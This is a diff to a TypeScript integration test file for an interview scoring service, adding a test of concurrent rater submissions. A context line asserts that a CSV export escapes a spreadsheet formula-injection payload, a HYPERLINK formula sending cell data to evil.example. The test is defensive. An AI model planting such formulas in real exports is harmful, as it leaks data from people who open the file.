@@ -1,7 +1,7 @@
 import request from 'supertest';
 import type { RankingPage, RaterAssignment, ScorecardView } from '@rubricon/contracts';
 import { scheduleInterview } from '../factories/interviews';
-import { getSheet, scoreAndSubmit } from '../factories/scoring';
+import { fullSheet, getSheet, scoreAndSubmit } from '../factories/scoring';
 import { createStaff } from '../factories/staff';
 import { databaseKinds } from '../support/databases';
 import { connectRoom, eventually } from '../support/interview-client';
@@ -100,6 +100,39 @@ describe.each(databaseKinds().map((k) => [k.name, k] as const))('scoring live in
     expect(lines).toHaveLength(3); // header, the one candidate, the final empty string after the last CRLF
     expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
     expect(lines[1]).not.toMatch(/(^|,)=/);
+  });
+
+  it('keeps the scorecard right when two raters submit at the same moment', async () => {
+    const url = suite.server.url;
+    const ended = await endedInterview();
+    for (const [rater, level] of [
+      [a, 5],
+      [b, 3],
+    ] as const) {
+      const sheet = await getSheet(url, rater.token, 'interview', ended.id);
+      await request(url)
+        .put(`/api/scoring/subjects/interview/${ended.id}/sheet`)
+        .set(as(rater.token))
+        .send(fullSheet(sheet, () => level))
+        .expect(200);
+    }
+    await Promise.all(
+      [a, b].map((rater) =>
+        request(url).post(`/api/scoring/subjects/interview/${ended.id}/sheet/submit`).set(as(rater.token)).expect(200),
+      ),
+    );
+    const raters = (
+      await request(url).get(`/api/scoring/subjects/interview/${ended.id}/raters`).set(as(suite.token)).expect(200)
+    ).body as RaterAssignment[];
+    const ranking = (
+      await request(url)
+        .get(`/api/scorecards/postings/${ended.postingId}/ranking?limit=100`)
+        .set(as(suite.token))
+        .expect(200)
+    ).body as RankingPage;
+    const rows = ranking.items.filter((r) => r.total === 4 && r.ratersSubmitted === 2);
+    expect(raters.every((r) => r.status === 'submitted')).toBe(true);
+    expect(rows.length).toBeGreaterThanOrEqual(1);
   });
 
   it('never lets a candidate link reach scoring or scorecards', async () => {
